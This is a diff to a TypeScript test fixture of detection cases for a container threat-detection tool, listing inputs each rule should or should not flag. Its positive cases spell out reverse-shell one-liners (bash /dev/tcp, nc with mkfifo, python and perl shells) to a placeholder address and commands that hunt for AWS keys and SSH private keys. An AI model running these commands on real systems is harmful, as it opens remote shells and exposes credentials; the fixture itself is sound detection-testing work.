@@ -20,11 +20,13 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
       exec("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
       exec("sh -c mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.7 4444 > /tmp/f"),
       exec(`python3 -c import os,pty;os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`),
+      exec(`perl -e use Socket;connect(S,sockaddr_in(1234,$a));exec("/bin/sh -i");`),
       falcoHit("Redirect STDOUT/STDIN to Network Connection in Container"),
     ],
     stays: [
       exec("bash -c echo hello > /dev/null"),
       exec("python3 -c print(1)"),
+      exec("perl -e use Socket;connect(S,sockaddr_in(1234,$a));"),
       exec("sh -c mkfifo /tmp/f"),
     ],
   },
@@ -131,12 +133,16 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
     stays: [onHost(exec("/usr/sbin/sshd -D"))],
   },
   "kernel-hooked": {
-    fires: [traceeHit("DRV-002"), traceeHit("hooked_seq_ops_detector"), traceeHit("TRC-1020")],
+    fires: [
+      datadogHit("rootkit_activation"),
+      traceeHit("DRV-002"),
+      traceeHit("hooked_seq_ops_detector"),
+      traceeHit("TRC-1020"),
+    ],
     stays: [traceeHit("TRC-1017"), onHost(kernel("load_module", "insmod"))],
   },
   "credential-search": {
     fires: [
-      traceeHit("k8s_cert_theft"),
       exec("grep -r aws_secret_access_key /"),
       exec("find / -name id_rsa"),
       falcoHit("Find AWS Credentials"),
